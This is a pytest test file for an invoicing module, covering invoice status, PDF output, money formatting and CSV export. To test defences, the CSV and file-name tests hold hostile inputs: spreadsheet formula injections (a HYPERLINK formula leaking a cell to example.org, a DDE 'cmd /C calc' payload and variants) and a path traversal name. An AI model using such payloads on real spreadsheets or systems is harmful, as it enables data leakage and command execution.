"""Invoices as files, from the submission of a case to the day on which it was paid."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.core.cases import decided_case
from tests.core.test_dealings import submission
from workbench import pdf, workspace
from workbench.case import (
    InvoiceLine,
    OrganizationProfile,
    Payment,
    Problem,
    Rates,
    ReviewerProfile,
    replace,
)
from workbench.release import invoices
from workbench.session import Session
from workbench.workspace import SECONDS, Workspace

DAY = dt.date(2026, 11, 20)
EXAMPLE = "Example Review Organization"


def line(number: str = "CM26-0000001", cents: int = 15_000, **changes: str) -> InvoiceLine:
    made = InvoiceLine(
        reference="draft-0001",
        number=number,
        organization=EXAMPLE,
        submitted=DAY,
        words="Determination",
        quantity=1,
        cents=cents,
    )
    return replace(made, **changes)


@pytest.fixture
def opened(tmp_path: Path) -> Iterator[Workspace]:
    """A workspace with three lines for one organization and one for another."""
    made = workspace.create(tmp_path / "workspace", "a passphrase")
    made.set_profile(ReviewerProfile(name="Wilhelmina Testerby"))
    other = line("X-1", organization="Another Example")
    made.add_invoice_lines((line(), line("CM26-0000002", 9_950), line("CM26-0000003"), other))
    yield made
    made.close()


def idents(opened: Workspace, *numbers: str) -> list[int]:
    return [one.id for one in opened.invoice_lines() if one.number in numbers]


def words_of(data: bytes) -> str:
    return " ".join(pdf.text(data).split())


def test_that_an_invoice_goes_from_submitted_to_paid_and_back(opened: Workspace) -> None:
    chosen = idents(opened, "CM26-0000001", "CM26-0000002")
    begun = invoices.begun(opened, chosen, " 2026-001 ", DAY)
    assert begun.number == "2026-001"
    assert begun.reviewer == "Wilhelmina Testerby"
    assert invoices.total(begun.lines) == 24_950
    assert {one.payment for one in opened.invoice_lines()} == {Payment.SUBMITTED}
    opened.put_on_invoice(chosen, begun.number, begun.day)
    kept = invoices.kept(opened, "2026-001")
    assert (kept.day, kept.organization) == (DAY, EXAMPLE)
    assert [one.number for one in kept.lines] == ["CM26-0000001", "CM26-0000002"]
    assert {one.payment for one in kept.lines} == {Payment.INVOICED}
    opened.pay_invoice("2026-001", DAY)
    assert {one.payment for one in invoices.kept(opened, "2026-001").lines} == {Payment.PAID}
    opened.take_invoice_back("2026-001")  # one that was paid stays
    opened.pay_invoice("2026-001", None)
    opened.take_invoice_back("2026-001")
    with pytest.raises(Problem, match="no invoice with this number"):
        invoices.kept(opened, "2026-001")


@pytest.mark.parametrize(
    ("cases", "number", "sentence"),
    [
        (("CM26-0000001",), "  ", "needs a number"),
        (("CM26-0000001",), "2026-001", "Another invoice"),
        ((), "2026-002", "Mark the lines"),
        (("CM26-0000003",), "2026-002", "already"),
        (("CM26-0000001", "X-1"), "2026-002", "for one organization"),
    ],
)
def test_that_an_invoice_that_makes_no_sense_is_refused(
    opened: Workspace, cases: tuple[str, ...], number: str, sentence: str
) -> None:
    opened.put_on_invoice(idents(opened, "CM26-0000003"), "2026-001", DAY)
    with pytest.raises(Problem, match=sentence):
        invoices.begun(opened, idents(opened, *cases), number, DAY)


def test_that_no_line_is_paid_without_an_invoice(opened: Workspace) -> None:
    for number in ("", "2026-001"):
        with pytest.raises(Problem, match="no invoice with this number"):
            opened.pay_invoice(number, DAY)
    assert {one.payment for one in opened.invoice_lines()} == {Payment.SUBMITTED}


@pytest.mark.parametrize(
    ("case", "paid", "sentence"),
    [("X-1", False, "one organization"), ("CM26-0000002", True, "was paid already")],
)
def test_that_an_invoice_takes_no_lines_of_others_and_none_once_it_is_paid(
    opened: Workspace, case: str, paid: bool, sentence: str
) -> None:
    opened.put_on_invoice(idents(opened, "CM26-0000001"), "2026-001", DAY)
    if paid:
        opened.pay_invoice("2026-001", DAY)
    with pytest.raises(Problem, match=sentence):
        opened.put_on_invoice(idents(opened, "CM26-0000003", case), "2026-001", DAY)
    on_it = [one.number for one in opened.invoice_lines() if one.invoice]
    assert on_it == ["CM26-0000001"]


def test_that_the_page_conforms_and_says_who_asks_whom_for_what(opened: Workspace) -> None:
    begun = invoices.begun(opened, idents(opened, "CM26-0000001", "CM26-0000002"), "7", DAY)
    data = invoices.invoice_pdf(begun)
    assert pdf.conformance(data) == ()
    said = words_of(data)
    for words in ("Wilhelmina Testerby", EXAMPLE, "11/20/2026", "CM26-0000002", "$99.50"):
        assert words in said
    assert said.endswith("Total $249.50")


def test_that_an_invoice_says_who_sends_it_by_which_terms_and_what_one_costs(
    opened: Workspace,
) -> None:
    known = invoices.Sender(address="1 Imaginary Way\nMadeup, CA", terms="Due within 30 days.")
    invoices.keep_sender(opened, known)
    assert invoices.sender(opened) == known
    opened.add_invoice_lines([replace(line("CM26-9", 3_000), words="Pages", quantity=120)])
    data = invoices.invoice_pdf(invoices.begun(opened, idents(opened, "CM26-9"), "7", DAY))
    assert pdf.conformance(data) == ()
    said = words_of(data)
    assert "Wilhelmina Testerby 1 Imaginary Way Madeup, CA" in said
    assert "Pages 120 $0.25 $30.00 Total $30.00 Due within 30 days." in said
    with pytest.raises(Problem, match="U\\+1F9EA"):
        invoices.keep_sender(opened, replace(known, terms="\U0001f9ea"))
    assert invoices.sender(opened) == known
    assert invoices.each(replace(line(), quantity=7)) == ""


def test_that_names_are_drawn_letter_for_letter_over_many_pages() -> None:
    hostile = "<b>Example</b> & {number} %s"
    lines = tuple(line(hostile, words=hostile, organization=hostile) for _ in range(60))
    invoice = invoices.Invoice(
        number=hostile, day=DAY, organization=hostile, reviewer=hostile, lines=lines
    )
    data = invoices.invoice_pdf(invoice)
    assert pdf.conformance(data) == ()
    assert len(pdf.page_sizes(data)) > 1
    assert words_of(data).replace(" ", "").count(hostile.replace(" ", "")) >= 60


def test_that_a_character_that_cannot_be_printed_is_told() -> None:
    invoice = invoices.Invoice(
        number="1", day=DAY, organization="\U0001f9ea", reviewer="", lines=(line(),)
    )
    with pytest.raises(Problem, match="U\\+1F9EA"):
        invoices.invoice_pdf(invoice)


@pytest.mark.parametrize(
    ("cents", "words"), [(0, "$0.00"), (7, "$0.07"), (123_450, "$1,234.50"), (-2_505, "-$25.05")]
)
def test_that_money_is_said_as_people_write_it(cents: int, words: str) -> None:
    assert invoices.money(cents) == words


def test_that_the_next_number_of_the_year_is_suggested() -> None:
    lines = [line(invoice=number) for number in ("2026-009", "2025-044", "F-2026-100", "", "12")]
    assert invoices.suggested_number(lines, DAY) == "2026-010"
    assert invoices.suggested_number([], DAY) == "2026-001"


# For spreadsheets


def cells(*lines: InvoiceLine) -> list[list[str]]:
    text = invoices.invoice_csv(lines).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://example.org/?"&A1,"total")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\ufeff=1+1",
        "\uff1d1+1",
        "ordinary;=1+1",
        'quoted", "=1+1\n=2+2',
    ],
)
def test_that_no_cell_is_taken_for_a_formula(hostile: str) -> None:
    told = line(hostile, words=hostile, organization=hostile, invoice=hostile)
    (row,) = cells(told)
    assert len(row) == 9
    for place in (0, 2, 4, 5):
        parts = row[place].replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")
        assert not any(part.strip(" \ufeff").startswith(tuple("=+-@\uff1d")) for part in parts)
        assert row[place].replace("'", "") == hostile.replace("'", "")


def test_that_amounts_stay_numbers_and_ordinary_words_stay_as_they_are() -> None:
    (row,) = cells(line("CM26-0000001", -2_505, words="Further items, agreed"))
    assert row == [
        *("", "", EXAMPLE, "2026-11-20", "CM26-0000001", "Further items, agreed", "1", "-25.05", "")
    ]
    assert invoices.invoice_csv([]).startswith(b"\xef\xbb\xbfInvoice,")


@pytest.mark.parametrize(
    ("number", "name"), [("2026-001", "Invoice-2026-001.pdf"), ("../../=x", "Invoice-x.pdf")]
)
def test_that_a_file_is_named_by_the_number(number: str, name: str) -> None:
    assert invoices.file_name(number, ".pdf") == name


def test_that_the_rates_of_the_profile_bill_a_case_at_its_submission(opened: Workspace) -> None:
    opened.keep_organization(OrganizationProfile(name=EXAMPLE, rates=Rates(flat=100, per_item=10)))
    session = Session(opened, opened.add(decided_case("CM26-0000009")).reference)
    opened.set_case_setting(session.case.reference, SECONDS, "60")
    opened.submit(session.case, session.revision, submission())
    lines = [one for one in opened.invoice_lines(EXAMPLE) if one.number == "CM26-0000009"]
    assert [(one.words, one.cents) for one in lines] == [
        ("Determination", 100),
        ("Further item", 10),
    ]
